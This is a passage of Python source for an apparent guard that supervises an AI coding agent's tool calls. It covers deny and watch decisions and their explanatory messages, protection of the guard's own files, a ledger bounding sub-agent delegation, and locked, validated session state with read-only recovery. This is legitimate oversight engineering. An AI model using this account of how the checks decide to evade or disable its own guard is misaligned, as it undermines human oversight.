    between, this call included; from THRASH_REPEAT_LIMIT on, the call is
    reported.
    """
    facts = _DecisionFacts(action, state, action_id, declared, storage_error,
                           protected_paths, thrash_repeats)
    for row in DECISION_TABLE:
        hit = row.check(facts) if row.check is not None else None
        if hit is not None:
            detail, next_text, policy = hit
            if row.outcome == "allow":
                return Decision("allow", row.code, None, detail, "")
            return _decision_for(row.code, facts.armed, detail, next_text, policy)
    raise AssertionError("WITHIN_CONTRACT always matches")


# ---- the culprit: which part of the call decided ----------------------------


def _lock_text(allowed: Optional[List[str]]) -> str:
    return "`files=%s`" % ("|".join(allowed) if allowed else ".")


def _changed_line(change: dict, intent: str) -> Tuple[str, str]:
    """(line, path) of a file tool's change that carries hash or dependency intent."""
    if "patch" in change:
        text = change.get("patch")
        lines = [ln[1:] for ln in (text.splitlines() if isinstance(text, str) else [])
                 if ln.startswith("+") and not ln.startswith("+++")]
        path, old, new = None, "", "\n".join(lines)
    else:
        path, old, new = change.get("path"), change.get("old") or "", change.get("new") or ""
        lines = new.splitlines()
    before = set(old.splitlines())
    fresh = [ln for ln in lines if ln.strip() and ln not in before][:50]
    for line in fresh:
        if intent == "hash" and hash_intent_in_text(line, path):
            return line.strip(), path or ""
        if intent == "dep" and path is not None:
            without = "\n".join(ln for ln in new.splitlines() if ln != line)
            if not dependency_intent_in_change(path, change.get("old"), without):
                return line.strip(), path
    return "", path or ""


def decision_culprit(action: Action, decision: Decision, allowed: Optional[List[str]] = None,
                     protected_paths: Sequence[str] = ()) -> str:
    """The `Culprit:` lines of a deny or note: the part of this call that
    decided it, or "" when the decision is not about the call's content
    (state, delegation, the directive).  Built only for a deny or a note."""
    try:
        return _decision_culprit(action, decision, allowed, protected_paths)
    except Exception:   # noqa: BLE001 - naming the culprit must never break a deny
        return ""


def _decision_culprit(action: Action, decision: Decision, allowed: Optional[List[str]],
                      protected_paths: Sequence[str]) -> str:
    code = decision.code
    if isinstance(action.command, str):
        paths: Sequence[str] = ()
        if code in ("PATH_OUTSIDE_CONTRACT", "WRITE_PATH_UNPROVEN") and allowed is not None:
            paths = paths_outside(list(action.shell_write_targets), allowed, action.cwd)
        elif code == "GUARD_SELF_PROTECTION":
            paths = protected_hits(action, protected_paths)
        culprit = shell_culprit(action.command, action.shell or "bash", code, paths)
        if culprit and code in ("PATH_OUTSIDE_CONTRACT", "WRITE_PATH_UNPROVEN"):
            # These carry no Instead line: the culprit is the whole message.
            culprit = culprit[:-1] + "; the lock is %s." % _lock_text(allowed)
        return culprit
    if code == "PATH_OUTSIDE_CONTRACT" and allowed is not None:
        outside = paths_outside(list(action.affected_paths), allowed, action.cwd)
        if outside:
            return "Culprit: %s %s outside the lock %s." % (
                ", ".join("`%s`" % p for p in outside[:3]),
                "is" if len(outside) == 1 else "are", _lock_text(allowed))
    if code == "WRITE_PATH_UNPROVEN":
        return "Culprit: `%s` names no path that can be checked against the lock %s." % (
            action.name, _lock_text(allowed))
    if code == "MODE_FORBIDS_MUTATION":
        paths = [p for p in action.affected_paths if p]
        return "Culprit: `%s` writes%s." % (action.name, " `%s`" % paths[0] if paths else "")
    if code == "MUTABILITY_UNPROVEN":
        return "Culprit: the tool `%s` is not known to be read-only." % action.name
    if code in ("HASH_NOT_AUTHORIZED", "DEPENDENCY_NOT_AUTHORIZED"):
        intent = "hash" if code == "HASH_NOT_AUTHORIZED" else "dep"
        for change in action.changes:
            line, path = _changed_line(change, intent)
            if line:
                if len(line) > 80:
                    line = line[:79].rstrip() + "…"
                where = " in `%s`" % path if path else ""
                if intent == "hash":
                    return "Culprit: `%s`%s adds hashing." % (line, where)
                return "Culprit: `%s`%s adds a dependency." % (line, where)
        paths = [p for p in action.affected_paths if p]
        if paths:
            return "Culprit: the text written to `%s`." % paths[0]
    return ""


# ---- the STOP / WATCH message -----------------------------------------------

_DECISION_RESPONSE_LINES: Dict[str, str] = {
    "context": "The guard returned context and did not deny the call.",
    "execution_denial_returned": "The guard denied the call before it ran.",
    "deny": "The guard answered with a permission deny.",
}


def decision_message(decision: Decision, *, state_label: str, mode: str,
                     response_outcome: str, event_id: Optional[str], culprit: str = "") -> str:
    """The multi-line STOP/WATCH message: WATCH when the result is context,
    then the response line, Reason, Detail, Code, State, Event, Culprit, Next
    (empty lines left out).

    state_label is OFF, OBSERVING or ARMED for the contract the decision used
    (recovery shows ARMED / review); event_id is None when the audit failed.
    culprit (see decision_culprit) goes after Event and before Next, so the
    lines before it keep their places for tools that read them.
    """
    is_context = outcome_result_kind(decision.outcome) == "context"
    if is_context:
        response = _DECISION_RESPONSE_LINES["context"]
    else:
        response = _DECISION_RESPONSE_LINES.get(response_outcome, _DECISION_RESPONSE_LINES["deny"])
    lines = ["%s / %s" % ("WATCH" if is_context else "STOP", family_word(decision.family)),
             response,
             "Reason: " + decision.code]
    if decision.detail:
        lines.append("Detail: " + decision.detail)
    lines.append("Code: %s/%s" % (decision.family or "-", decision.code))
    lines.append("State: %s / %s" % (state_label, mode))
    if event_id is not None:
        lines.append("Event: " + event_id)
    if culprit:
        lines.append(culprit)
    if decision.next:
        lines.append("Next: " + decision.next)
    return "\n".join(lines)


###############################################################################
# Delegation ledger
#
# Owns `state["delegation"]`: reservations keyed by the host's action id,
# admission, lifecycle facts and the summary the decision reads.  The count
# is an upper bound, never a live count: a unit is freed only by a fact that
# proves the child or the whole call ended, so a lost or doubtful fact can
# only keep capacity reserved, never free it.
###############################################################################


class LedgerSummary(Record):

    __slots__ = FIELDS = ('reserved', 'unresolved_reasons', 'unknown_results', 'duplicate')
    reserved: int
    unresolved_reasons: List[str]
    unknown_results: int
    duplicate: bool


_RESERVATION_PREFIX = "reservation:"
UNIDENTIFIED_ACTION_ID = "legacy:unidentified"
REUSED_ACTION_ID = "reused_action_id"


def ledger_summary(delegation: dict, action_id: Optional[str] = None) -> LedgerSummary:
    """What the decision reads: units reserved (pending plus bound children), the
    reasons some admitted activity has no provable bound, the reservations whose
    result is unknown, and whether `action_id` was already accepted."""
    reservations = (delegation.get("reservations") or {}).values()
    reserved = sum(r.get("pendingCount", 0) + len(r.get("agentIds", ())) for r in reservations)
    unknown = sum(1 for r in reservations if r.get("resultUnknown"))
    # Distinct reasons in the order they were first recorded.
    reasons = list(dict.fromkeys((delegation.get("unresolved") or {}).values()))
    duplicate = action_id is not None and action_id in (delegation.get("acceptedActions") or {})
    return LedgerSummary(reserved, reasons, unknown, duplicate)


def _ledger_keys(delegation: dict) -> dict:
    # A state read from disk may lack optional keys; fill them in place so
    # every helper below can index directly.
    for key, empty in (("reservations", dict), ("agentIdsSeen", list),
                       ("stoppedAgentIds", list), ("acceptedActions", dict),
                       ("agentAliases", dict), ("unresolved", dict)):
        if not isinstance(delegation.get(key), empty):
            delegation[key] = empty()
    return delegation


def _ledger_slot(action_id: str) -> str:
    return _RESERVATION_PREFIX + action_id


def changes_delegation(action: Action, declared: bool) -> bool:
    """Whether admission must run under the session lock: a delegation, a call
    that may restart an agent, or anything but a read or write from an adapter
    that does not declare lifecycle support.  Everything else is judged
    lock-free and writes no state."""
    legacy = not declared and action.mutability in ("delegate", "control", "unknown")
    return action.mutability == "delegate" or action.delegation_lifecycle_unproven or legacy


def _ledger_uncertainty(action: Action, declared: bool) -> Optional[str]:
    # First match wins: the reason the admitted activity has no provable bound.
    if not declared and action.mutability in ("delegate", "control", "unknown"):
        return "legacy_protocol"
    if action.unbounded_delegation:
        return "unbounded_execution"
    if action.delegation_lifecycle_unproven:
        return "unversioned_resume"
    return None


def admit(delegation: dict, action: Action, action_id: Optional[str], declared: bool) -> None:
    """Record an accepted delegation-changing action: its id, its units pending,
    and why its bound is unprovable, if it is.

    The engine calls this, inside the same lock hold as the decision, when
    changes_delegation() and the outcome is allow or report_and_defer.
    """
    ledger = _ledger_keys(delegation)
    key = action_id or UNIDENTIFIED_ACTION_ID
    if key in ledger["acceptedActions"]:
        # A duplicate that watch or off let through: its units cannot be told
        # apart from the original's, so the bound is lost until a whole-call fact.
        ledger["unresolved"][key] = REUSED_ACTION_ID
        return
    count = action.admission_count
    ledger["acceptedActions"][key] = count
    ledger["reservations"][_ledger_slot(key)] = {
        "actionId": key,
        "asyncLaunched": None,
        "pendingCount": count,
        "agentIds": [],
        "completionScope": action.completion_scope or "children",
        "observedRunning": False,
        "notStartedAmbiguous": False,
        "resultUnknown": False,
        "reportedAliases": [],
    }
    reason = _ledger_uncertainty(action, declared)
    if reason is not None:
        ledger["unresolved"][key] = reason


def mark_denied_duplicate(delegation: dict, action_id: str) -> None:
    """A denied duplicate marks the original reservation notStartedAmbiguous.

    A later `not_started` might describe the rejected retry rather than the
    original call, so it must no longer free the original's units.
    """
    reservation = _ledger_keys(delegation)["reservations"].get(_ledger_slot(action_id))
    if reservation is not None:
        reservation["notStartedAmbiguous"] = True


def apply_admission(delegation: dict, action: Action, action_id: Optional[str],
                    declared: bool, decision: Decision) -> bool:
    """Admission after `decide`, in the same lock hold; True when the ledger must
    be written.

    Permitted (allow or report_and_defer) delegation changes are admitted; a
    denied duplicate marks the original; any other denial changes nothing,
    so the id may be retried.
    """
    if not changes_delegation(action, declared):
        return False
    if decision.outcome in ("allow", "report_and_defer"):
        admit(delegation, action, action_id, declared)
        return True
    if action_id is not None and ledger_summary(delegation, action_id).duplicate:
        mark_denied_duplicate(delegation, action_id)
        return True
    return False


def _ledger_bound_in(ledger: dict, agent_id: str) -> Optional[str]:
    for key, reservation in ledger["reservations"].items():
        if agent_id in reservation.get("agentIds", ()):
            return key
    return None


def _ledger_drop_if_spent(ledger: dict, key: str) -> None:
    reservation = ledger["reservations"].get(key)
    if reservation is not None and reservation["pendingCount"] <= 0 \
            and not reservation["agentIds"]:
        del ledger["reservations"][key]


def _ledger_add_unique(items: List[str], value: str) -> None:
    if value not in items:
        items.append(value)


def _ledger_bind(ledger: dict, agent_id: Optional[str], key: str) -> None:
    """Move one pending unit of reservation `key` to child `agent_id`; a child
    id is bound once, ever."""
    if not agent_id or agent_id in ledger["agentIdsSeen"]:
        return
    reservation = ledger["reservations"].get(key)
    if agent_id in ledger["stoppedAgentIds"]:
        # The stop arrived before the start: the child already finished, so
        # its unit is spent rather than bound.
        if reservation is not None and reservation["pendingCount"] > 0:
            reservation["pendingCount"] -= 1
            _ledger_drop_if_spent(ledger, key)
            ledger["agentIdsSeen"].append(agent_id)
        return
    if _ledger_bound_in(ledger, agent_id) is not None:
        return
    if reservation is None or reservation["pendingCount"] <= 0:
        return
    reservation["pendingCount"] -= 1
    reservation["agentIds"].append(agent_id)
    ledger["agentIdsSeen"].append(agent_id)


def _ledger_release(ledger: dict, agent_id: Optional[str]) -> None:
    """A child stopped: free its unit if it was bound, and remember it stopped
    (a stop may arrive before the start); idempotent."""
    if not agent_id:
        return
    key = _ledger_bound_in(ledger, agent_id)
    if key is not None:
        ledger["reservations"][key]["agentIds"].remove(agent_id)
        _ledger_drop_if_spent(ledger, key)
    _ledger_add_unique(ledger["stoppedAgentIds"], agent_id)


def _ledger_reservation_key(ledger: dict, event: ControlEvent, raw: str) -> Optional[str]:
    # reservationId names the delegating call; accept the stored key form
    # too, and the id namespaced by the child session that sent it.
    candidates = [raw, _ledger_slot(raw)]
    source = event.source_session_id
    if source is not None and source != event.session_id:
        namespaced = json.dumps([source, raw], ensure_ascii=False, separators=(",", ":"))
        candidates.append(_ledger_slot(namespaced))
    for key in candidates:
        if key.startswith(_RESERVATION_PREFIX) and key in ledger["reservations"]:
            return key
    return None


def _ledger_whole_call(ledger: dict, action_id: str, lifecycle: str) -> None:
    key = _ledger_slot(action_id)
    reservation = ledger["reservations"].get(key)
    reason = ledger["unresolved"].get(action_id)
    if reason == REUSED_ACTION_ID:
        return  # the fact may describe either of the calls sharing this id
    if reservation is None and reason is None:
        return
    if lifecycle == "not_started" and reservation is not None and (
            reservation.get("notStartedAmbiguous") or reservation.get("observedRunning")
            or reservation["agentIds"]):
        return  # something did start under this id
    ledger["reservations"].pop(key, None)
    ledger["unresolved"].pop(action_id, None)


def _ledger_progress(ledger: dict, event: ControlEvent, action_id: str) -> None:
    result = event.action
    key = _ledger_slot(action_id)
    reservation = ledger["reservations"].get(key)
    if reservation is None:
        return
    scope = event.completion_scope or reservation.get("completionScope") or "children"
    # A call-scoped reservation frees capacity per call, never per child, so
    # children are not bound to it (neither by id nor by alias).
    per_child = scope != "call"
    if result.agent_id and per_child:
        _ledger_bind(ledger, result.agent_id, key)
    for alias in result.agent_aliases:
        reservation = ledger["reservations"].get(key)
        if reservation is None:
            break
        _ledger_add_unique(reservation["reportedAliases"], alias)
        mapped = ledger["agentAliases"].get(alias)
        if mapped and per_child:
            _ledger_bind(ledger, mapped, key)
    reservation = ledger["reservations"].get(key)
    if reservation is not None:
        reservation["observedRunning"] = bool(reservation.get("observedRunning")) or (
            result.lifecycle == "running")
        reservation["resultUnknown"] = result.lifecycle == "unknown"


def _ledger_on_action_after(ledger: dict, event: ControlEvent) -> None:
    result = event.action
    action_id = event.action_id
    if not isinstance(result, ActionResult) or not action_id:
        return
    if result.lifecycle in ("joined", "not_started"):
        _ledger_whole_call(ledger, action_id, result.lifecycle)
    else:
        _ledger_progress(ledger, event, action_id)
    for agent_id in result.ended_agent_ids:
        _ledger_release(ledger, agent_id)


def _ledger_on_subagent_start(ledger: dict, event: ControlEvent) -> None:
    agent_id, alias = event.agent_id, event.agent_alias
    if alias and agent_id:
        ledger["agentAliases"][alias] = agent_id
        for key in list(ledger["reservations"]):
            reservation = ledger["reservations"].get(key)
            if (reservation is not None and reservation.get("completionScope") != "call"
                    and alias in reservation.get("reportedAliases", ())):
                _ledger_bind(ledger, agent_id, key)
    if event.reservation_id:
        key = _ledger_reservation_key(ledger, event, event.reservation_id)
        # Only an explicit id binds: arrival order proves nothing (never FIFO).
        if key is not None and ledger["reservations"][key].get("completionScope") != "call":
            _ledger_bind(ledger, agent_id, key)


def _ledger_on_subagent_stop(ledger: dict, event: ControlEvent) -> None:
    _ledger_release(ledger, event.agent_id)


def _ledger_on_session_end(ledger: dict, event: ControlEvent) -> None:
    if event.all_delegations_stopped is True:
        # Accepted ids, seen/stopped lists and aliases stay: ids must still
        # be recognized as duplicates after the clear.
        ledger["reservations"].clear()
        ledger["unresolved"].clear()


_LEDGER_HANDLERS: Dict[str, Callable[[dict, ControlEvent], None]] = {
    "action.after": _ledger_on_action_after,
    "subagent.start": _ledger_on_subagent_start,
    "subagent.stop": _ledger_on_subagent_stop,
    "session.end": _ledger_on_session_end,
}


def apply_lifecycle_fact(delegation: dict, event: ControlEvent) -> bool:
    """Apply action.after / subagent.* / session.end facts; True when changed.

    Undeclared (legacy) events carry no trustworthy facts (their adapter does
    not declare lifecycle support) and change nothing.
    """
    handler = _LEDGER_HANDLERS.get(event.kind)
    if handler is None or not event.declared:
        return False
    ledger = _ledger_keys(delegation)
    before = json.dumps(ledger, sort_keys=True, default=str)
    handler(ledger, event)
    return json.dumps(delegation, sort_keys=True, default=str) != before


###############################################################################
# State and audit
#
# Owns everything on disk: the data dir, session keys, schema-4 state with
# validation, the cross-process lock, atomic durable writes, read-only
# recovery, armed markers, session links, the per-host "last event" marks,
# and the append-only runtime audit: one line per judged tool call, written
# with one O_APPEND write so that concurrent hooks never interleave bytes.
###############################################################################


def data_dir() -> str:
    """STS_HOME, else $XDG_STATE_HOME/stop-that-shit, else ~/.local/state/stop-that-shit."""
    root = os.environ.get("STS_HOME")
    if root:
        return root
    xdg = os.environ.get("XDG_STATE_HOME")
    if xdg:
        return os.path.join(xdg, "stop-that-shit")
    return os.path.join(os.path.expanduser("~"), ".local", "state", "stop-that-shit")


def sha256_hex(data: bytes) -> str:
    """SHA-256 without hashlib's OpenSSL start-up (~2 ms per hook) where CPython
    ships its own implementation (_sha256 up to 3.11, _sha2 from 3.12)."""
    try:
        from _sha256 import sha256
    except ImportError:
        try:
            from _sha2 import sha256
        except ImportError:
            from hashlib import sha256
    return sha256(data).hexdigest()


def session_key(session_id: str) -> str:
    """First 24 hex chars of SHA-256 of the UTF-8 id (lone surrogates -> U+FFFD)."""
    if not session_id:
        return "unknown"
    # The UTF-16 round trip joins surrogate pairs and turns each lone one into
    # a single U+FFFD, as Node does; a UTF-8 round trip would give three.
    try:
        data = session_id.encode("utf-8")
    except UnicodeEncodeError:
        text = session_id.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
        data = text.encode("utf-8")
    return sha256_hex(data)[:24]


def default_state() -> dict:
    return {
        "schemaVersion": 4,
        "contract": dict(DEFAULT_CONTRACT),
        "delegation": {"reservations": {}, "agentIdsSeen": [], "stoppedAgentIds": [],
                       "acceptedActions": {}, "agentAliases": {}, "unresolved": {}},
        "directiveWarning": None,
        "directiveError": None,
        "lastPromptContext": None,
    }


STATE_SCHEMA_VERSION = 4
LOCK_WAIT_SECONDS = 1.5
LOCK_POLL_SECONDS = 0.01
# An empty lock dir may be a writer caught between mkdir and creating its
# owner file, so it is only reclaimed once it has sat empty this long.
EMPTY_LOCK_RECLAIM_SECONDS = 2.0
LINK_MAX_DEPTH = 32
HOST_EFFECTS = ("observed_blocked", "observed_ran")
LABELS = ("correct", "incorrect", "inconclusive")

_STATE_MODES = frozenset(("unconfirmed", "answer", "review", "change", "monitor", "open"))
_STATE_LEVELS = frozenset(("watch", "guard", "lock", "off"))
_STATE_POLICIES = frozenset(("deny", "ask", "allow"))
_STATE_SOURCES = frozenset(("default", "directive", "natural-explicit", "explicit-stop",
                      "recovery", "host"))
_LEGACY_KEYS = ("agentsUsed", "totalAgentBudget", "concurrentAgentBudget")

_STATE_DAMAGED_ADVICE = ("read-only recovery is active and the file is preserved. Restore a "
                         "known-good backup or start a new host session.")
_LOCK_DAMAGED_ADVICE = ("read-only recovery is active and the lock is preserved. Stop every "
                        "host that uses this data dir, then move only the lock aside.")


class StateDamaged(Exception):
    """The state (or a link file) cannot be trusted; the session enters read-only recovery.

    `code` is the storage code the recovery reports: STATE_DAMAGED for a
    session file, STS_LOCK_DAMAGED for a lock path that is not a lock dir, and
    PARENT_LINK_DAMAGED for an unreadable `links/<key>.json` (raised by
    `Store.link_root`; the engine turns it into recovery like STATE_DAMAGED).
    """

    def __init__(self, message: str, code: str = "STATE_DAMAGED") -> None:
        super().__init__(message)
        self.code = code
        self.message = message

    @property
    def storage_error(self) -> dict:
        return {"code": self.code, "message": self.message}


class LockTimeout(Exception):
    """The session lock could not be taken within the bounded wait."""

    def __init__(self, key: str, waited: float = LOCK_WAIT_SECONDS) -> None:
        super().__init__("STS_LOCK_TIMEOUT: session %s is locked by another hook "
                         "(waited %d ms)" % (key, int(waited * 1000)))
        self.key = key
        self.code = "STS_LOCK_TIMEOUT"


class Loaded(Record):
    """A session's state as read, and the storage error that forced recovery, if any."""

    __slots__ = FIELDS = ('state', 'storage_error', 'existed')
    DEFAULTS = {'storage_error': None, 'existed': False}

    state: dict
    storage_error: Optional[dict]  # {"code": ..., "message": ...}
    existed: bool


def _uuid4_text() -> str:
    b = bytearray(os.urandom(16))
    b[6] = (b[6] & 0x0F) | 0x40
    b[8] = (b[8] & 0x3F) | 0x80
    h = b.hex()
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def _state_int_ok(value: Any) -> bool:
    # JSON true/false must not pass as 1/0 (bool is an int subclass).
    return type(value) is int and 0 <= value <= MAX_SAFE_INTEGER


def _state_member(value: Any, allowed: frozenset) -> bool:
    # Guards the set lookup: unhashable JSON values (lists, objects) would raise.
    return isinstance(value, str) and value in allowed


def _state_text_ok(value: Any) -> bool:
    return isinstance(value, str) and value.strip() != ""


def _damaged(why: str) -> StateDamaged:
    return StateDamaged("Session state is unreadable (%s); %s" % (why, _STATE_DAMAGED_ADVICE))


def _unique_ids(value: Any, where: str) -> List[str]:
    if not isinstance(value, list) or not all(_state_text_ok(v) for v in value):
        raise _damaged("%s is not a list of ids" % where)
    if len(set(value)) != len(value):
        raise _damaged("%s repeats an id" % where)
    return list(value)


def _validate_contract(raw: Any) -> dict:
    if not isinstance(raw, dict):
        raise _damaged("contract is not an object")
    checks = (("mode", lambda v: _state_member(v, _STATE_MODES)),
              ("level", lambda v: _state_member(v, _STATE_LEVELS)),
              ("agentBudget", _state_int_ok),
              ("hashPolicy", lambda v: _state_member(v, _STATE_POLICIES)),
              ("dependencyPolicy", lambda v: _state_member(v, _STATE_POLICIES)),
              ("allowedPaths", lambda v: v is None or (isinstance(v, list) and
                                                       all(isinstance(p, str) for p in v))))
    for name, ok in checks:
        if name not in raw:
            raise _damaged("contract.%s is missing" % name)
        if not ok(raw[name]):
            raise _damaged("contract.%s is out of range" % name)
    contract = {k: v for k, v in raw.items() if k not in _LEGACY_KEYS}
    source = contract.get("source", "default")
    if not _state_member(source, _STATE_SOURCES):
        raise _damaged("contract.source is out of range")
    contract["source"] = source
    if contract["allowedPaths"] is not None:
        contract["allowedPaths"] = list(contract["allowedPaths"])
    if contract["mode"] == "unconfirmed" and contract["level"] != "off":
        contract["level"] = "watch"
    return contract


_RESERVATION_BOOLS = ("observedRunning", "notStartedAmbiguous", "resultUnknown")


def _validate_delegation(raw: Any) -> dict:
    if not isinstance(raw, dict):
        raise _damaged("delegation is not an object")
    out = dict(raw)
    # Only agentAliases is optional.  A missing unresolved map
    # or accepted-id list must not read as empty: that would forget an
    # unproven count or a used id and grant budget nothing proved free.
    for required in ("acceptedActions", "unresolved"):
        if required not in raw:
            raise _damaged("delegation.%s is missing" % required)
    accepted = raw.get("acceptedActions", {})
    if not isinstance(accepted, dict) or not all(_state_int_ok(v) for v in accepted.values()):
        raise _damaged("delegation.acceptedActions is malformed")
    unresolved = raw.get("unresolved", {})
    if not isinstance(unresolved, dict) or not all(_state_text_ok(v) for v in unresolved.values()):
        raise _damaged("delegation.unresolved is malformed")
    aliases = raw.get("agentAliases", {})
    if not isinstance(aliases, dict) or not all(isinstance(v, str) for v in aliases.values()):
        raise _damaged("delegation.agentAliases is malformed")
    out["acceptedActions"] = dict(accepted)
    out["unresolved"] = dict(unresolved)
    out["agentAliases"] = dict(aliases)
    for name in ("agentIdsSeen", "stoppedAgentIds"):
        out[name] = _unique_ids(raw.get(name, []), "delegation." + name)
    reservations = raw.get("reservations")
    if not isinstance(reservations, dict):
        raise _damaged("delegation.reservations is not an object")
    fixed = {}
    for rkey, res in reservations.items():
        if not isinstance(res, dict):
            raise _damaged("a reservation is not an object")
        action_id = res.get("actionId")
        if not _state_text_ok(action_id) or action_id not in accepted:
            raise _damaged("a reservation has no accepted action id")
        pending = res.get("pendingCount")
        if not _state_int_ok(pending):
            raise _damaged("a reservation has a bad pendingCount")
        agents = _unique_ids(res.get("agentIds", []), "reservation agentIds")
        if pending + len(agents) > accepted[action_id]:
            raise _damaged("a reservation holds more units than were accepted")
        scope = res.get("completionScope", "children")
        if not _state_member(scope, COMPLETION_SCOPES):
            raise _damaged("a reservation has a bad completionScope")
        if res.get("asyncLaunched") is not None and not isinstance(res["asyncLaunched"], bool):
            raise _damaged("a reservation has a bad asyncLaunched")
        item = dict(res)
        for name in _RESERVATION_BOOLS:
            value = res.get(name, False)
            if not isinstance(value, bool):
                raise _damaged("a reservation has a bad %s" % name)
            item[name] = value
        aliases_seen = res.get("reportedAliases", [])
        if not isinstance(aliases_seen, list) or not all(isinstance(a, str) for a in aliases_seen):
            raise _damaged("a reservation has bad reportedAliases")
        item.update(agentIds=agents, pendingCount=pending, completionScope=scope,
                    reportedAliases=list(aliases_seen), asyncLaunched=res.get("asyncLaunched"))
        fixed[rkey] = item
    out["reservations"] = fixed
    return out


def validate_state(obj: Any) -> dict:
    """Check a parsed state file against schema 4 and normalize it.

    Raises StateDamaged on the first problem.  Normalizing happens in memory
    only (legacy budget keys dropped, optional fields filled in); the file is
    rewritten only by the next locked update.
    """
    if not isinstance(obj, dict):
        raise _damaged("not a JSON object")
    version = obj.get("schemaVersion")
    if type(version) is not int or version != STATE_SCHEMA_VERSION:
        # sts never wrote schemas 1-3, and a future one cannot be read safely.
        raise _damaged("unsupported schemaVersion %s" % json.dumps(version, default=str)[:20])
    state = {k: v for k, v in obj.items() if k not in _LEGACY_KEYS}
    state["contract"] = _validate_contract(obj.get("contract"))
    state["delegation"] = _validate_delegation(obj.get("delegation"))
    error = obj.get("directiveError")
    if error is not None and not (isinstance(error, dict) and isinstance(error.get("code"), str)):
        raise _damaged("directiveError is malformed")
    for name in ("directiveWarning", "lastPromptContext"):
        value = obj.get(name)
        if value is not None and not isinstance(value, str):
            raise _damaged("%s is malformed" % name)
        state[name] = value
    state["directiveError"] = error
    return state


def recovery_state(storage_error: dict) -> dict:
    """The read-only recovery state for a `{code, message}` storage error: review /
    guard with source `recovery`, and the agent count marked unproven, so reads
    go on and everything else is denied until the user starts over."""
    state = default_state()
    state["contract"].update(mode="review", level="guard", source="recovery")
    state["delegation"]["unresolved"]["state:damaged"] = "state_unavailable"
    state["storageError"] = dict(storage_error)
    return state


def _lock_damaged(key: str) -> dict:
    return {"code": "STS_LOCK_DAMAGED",
            "message": "The lock of session %s is a file, not a lock directory; %s"
                       % (key, _LOCK_DAMAGED_ADVICE)}


def _pid_alive(pid: int) -> bool:
    """Whether `pid` may still run; only a confirmed-dead pid lets a lock go
    (where liveness cannot be probed, a pid counts as alive)."""
    if pid <= 0:
        return True
    if os.name == "nt":
        try:
            import ctypes
            kernel = ctypes.windll.kernel32  # type: ignore[attr-defined]
            handle = kernel.OpenProcess(0x1000, False, pid)  # QUERY_LIMITED_INFORMATION
            if not handle:
                return kernel.GetLastError() != 87  # ERROR_INVALID_PARAMETER: no such pid
            try:
                code = ctypes.c_ulong()
                if not kernel.GetExitCodeProcess(handle, ctypes.byref(code)):
                    return True
                return code.value == 259  # STILL_ACTIVE
            finally:
                kernel.CloseHandle(handle)
        except Exception:
            return True
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except (OSError, OverflowError):
        return True  # EPERM: someone else's live process; a huge number: not provably dead
    return True


def _state_mkdirs(path: str) -> None:
    """mkdir -p where every directory sts creates, parents included, is 0700."""
    # os.makedirs applies `mode` only to the leaf since Python 3.7.
    parent = os.path.dirname(path)
    if parent and parent != path and not os.path.isdir(parent):
        _state_mkdirs(parent)
    try:
        os.mkdir(path, 0o700)
    except FileExistsError:
        if not os.path.isdir(path):
            raise


def _owner_pid(entry: str) -> Optional[int]:
    """The pid of a `<pid>-<uuid4>` owner entry, or None for anything else."""
    pid, sep, rest = entry.partition("-")
    if not sep or not pid.isdigit() or len(rest) != 36 or not pid.isascii():
        return None
    if any(c not in "0123456789abcdef-" for c in rest):
        return None
    return int(pid)


def _replace_file(target: str, data: bytes, mode: Optional[int] = 0o600,
                  durable: bool = True) -> None:
    """The one atomic file writer: `data` goes to a temp file beside `target`
    (never through a link), which is then renamed over it, so a reader sees
    the old file or the new one, never a part.  On any failure the old file
    stays, the temp file goes and the error is raised.  mode: the new file's
    mode (None: the target's own, or the default for a new file).  durable:
    the data and the rename are on disk (fsync of the file and its folder)
    before it returns."""
    import time
    tmp = "%s.%d.%d.tmp" % (target, os.getpid(), int(time.time() * 1000))
    keep = None
    if mode is None:
        try:
            keep = os.stat(target).st_mode & 0o7777
        except FileNotFoundError:
            pass
    flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC | getattr(os, "O_NOFOLLOW", 0)
    fd = os.open(tmp, flags, 0o666 if mode is None else mode)
    try:
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
            if durable:
                os.fsync(fd)
        finally:
            os.close(fd)
        if keep is not None:
            os.chmod(tmp, keep)
        os.replace(tmp, target)
    except BaseException:
        try:
            os.unlink(tmp)
        except OSError:
            pass
        raise
    if durable and os.name != "nt":
        try:
            dfd = os.open(os.path.dirname(target) or ".", os.O_RDONLY)
            try:
                os.fsync(dfd)
            finally:
                os.close(dfd)
        except OSError:
            pass  # some filesystems refuse a dir fsync; the rename already happened


class Store:
    """The data dir.  Tool-call hooks touch only their own session's files."""

    def __init__(self, root: Optional[str] = None) -> None:
        self.root = root or data_dir()
        # Keys whose damaged file was moved aside during the current update
        # (a valid directive in a damaged session starts it afresh).
        self._preserved: set = set()

    def path(self, *parts: str) -> str:
        return os.path.join(self.root, *parts)

    def _state_path(self, key: str) -> str:
        return os.path.join(self.root, "sessions", key + ".json")

    # ---- reading ------------------------------------------------------------

    def load(self, key: str) -> Loaded:
        """Lock-free read; damage yields the recovery state (see recovery_state)."""
        target = self._state_path(key)
        try:
            import stat
            if not stat.S_ISDIR(os.lstat(target + ".lock").st_mode):
                # sts never writes a lock file, so one here is foreign or corrupt.
                error = _lock_damaged(key)
                return Loaded(recovery_state(error), error, True)
        except FileNotFoundError:
            pass
        except OSError as exc:
            error = {"code": "STS_LOCK_DAMAGED",
                     "message": "The lock of session %s cannot be inspected (%s); %s"
                                % (key, type(exc).__name__, _LOCK_DAMAGED_ADVICE)}
            return Loaded(recovery_state(error), error, True)
        try:
            with open(target, "rb") as fh:
                raw = fh.read()
        except FileNotFoundError:
            return Loaded(default_state())
        except OSError as exc:
            error = _damaged("cannot read it: %s" % type(exc).__name__).storage_error
            return Loaded(recovery_state(error), error, True)
        try:
            state = validate_state(json.loads(raw.decode("utf-8")))
        except StateDamaged as exc:
            return Loaded(recovery_state(exc.storage_error), exc.storage_error, True)
        except (ValueError, RecursionError) as exc:
            why = "not UTF-8" if isinstance(exc, UnicodeDecodeError) else \
                "empty" if not raw.strip() else "not valid JSON"
            error = _damaged(why).storage_error
            return Loaded(recovery_state(error), error, True)
        return Loaded(state, None, True)

    # ---- locking ------------------------------------------------------------

    def _acquire(self, key: str) -> Optional[str]:
        """Take the session lock; the owner file's path, or None if the lock is damaged."""
        import time
        lock = self._state_path(key) + ".lock"
